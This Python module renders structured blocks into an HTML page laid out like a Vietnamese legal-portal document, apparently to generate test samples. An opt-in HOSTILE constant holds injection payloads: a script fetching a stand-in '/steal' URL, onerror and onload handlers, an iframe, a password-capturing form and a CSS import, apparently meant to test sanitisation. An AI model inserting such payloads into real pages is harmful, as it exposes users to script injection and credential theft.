"""Builds an HTML page from blocks, the way a legal portal prints a document."""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

from samples.generate.blocks import ABOVE, LEFT, NEWLINE, Block, Closing, Letterhead, Lines, Page, Table

if TYPE_CHECKING:
    from collections.abc import Iterable

STYLE = "body{font-family:'Times New Roman',serif;max-width:52em;margin:auto}.c{text-align:center}td{vertical-align:top}"
CENTRED = frozenset({"title", "authority", "order", "chapter", "annex"})


HOSTILE = """<script>document.title = "chạy được"; fetch("https://example.invalid/steal")</script>
<img src="https://example.invalid/pixel.png" onerror="alert(1)" alt="">
<iframe src="https://example.invalid/"></iframe>
<form action="https://example.invalid/"><input name="password"></form>
<style>@import url("https://example.invalid/a.css"); body { display: none }</style>
<svg onload="alert(2)"><text>svg</text></svg>
"""


def build_html(blocks: Iterable[Block], title: str, *, hostile: bool = False) -> bytes:
    """Return a complete UTF-8 page; nothing in it runs or loads, unless it is made ``hostile`` on purpose."""
    body = (HOSTILE if hostile else "") + "\n".join(_to_html(block) for block in blocks)
    page = (
        '<!DOCTYPE html>\n<html lang="vi">\n<head>\n<meta charset="utf-8">\n'
        f"<title>{escape(title)}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n{body}\n</body>\n</html>\n"
    )
    return page.encode()


def _to_html(block: Block) -> str:
    match block:
        case Letterhead():
            return _letterhead(block)
        case Lines():
            return "\n".join(_line(block.style, line) for line in block.lines)
        case Closing():
            return _closing(block)
        case Table():
            return _table(block)
        case Page():
            return "<hr>"


def _letterhead(head: Letterhead) -> str:
    mark = f"<br><b>{escape(head.mark)}</b>" if head.mark else ""
    about = "".join(f"<br>{escape(line)}" for line in head.about)
    return (
        '<table width="100%"><tr>'
        f'<td class="c"><b>{"<br>".join(map(escape, head.left))}</b><br>-------</td>'
        f'<td class="c"><b>{"<br>".join(map(escape, head.right))}</b><br>---------------</td></tr>'
        f'<tr><td class="c">{escape(head.number)}{about}{mark}</td>'
        f'<td class="c"><i>{escape(head.place)}</i></td></tr></table>'
    )


def _line(style: str, line: str) -> str:
    text = escape(line)
    if style in CENTRED:
        return f'<p class="c"><i>{text}</i></p>' if line.startswith("(") else f'<p class="c"><b>{text}</b></p>'
    return f"<p><i>{text}</i></p>" if style == "basis" else f"<p>{text}</p>"


def _closing(closing: Closing) -> str:
    *titles, signer = (escape(line) for line in closing.signature)
    recipients = "<br>".join(["<b><i>Nơi nhận:</i></b>", *map(escape, closing.recipients)])
    return (
        f'<table width="100%"><tr><td>{recipients if closing.recipients else ""}</td>'
        f'<td class="c"><b>{"<br>".join(titles)}<br><br><br>{signer}</b></td></tr></table>'
    )


def _table(table: Table) -> str:
    rows = []
    for y, row in enumerate(table.rows):
        cells = []
        for x, text in enumerate(row):
            if text in {LEFT, ABOVE}:
                continue
            wide = 1 + _count(row[x + 1 :], LEFT)
            tall = 1 + _count([below[x] for below in table.rows[y + 1 :]], ABOVE)
            spans = (f' colspan="{wide}"' if wide > 1 else "") + (f' rowspan="{tall}"' if tall > 1 else "")
            tag = "th" if y < table.header else "td"
            inner = "<br>".join(escape(part.strip()) for part in text.split(NEWLINE))
            cells.append(f"<{tag}{spans}>{inner}</{tag}>")
        rows.append(f"<tr>{''.join(cells)}</tr>")
    return '<table border="1">\n' + "\n".join(rows) + "\n</table>"


def _count(cells: Iterable[str], mark: str) -> int:
    count = 0
    for cell in cells:
        if cell != mark:
            break
        count += 1
    return count
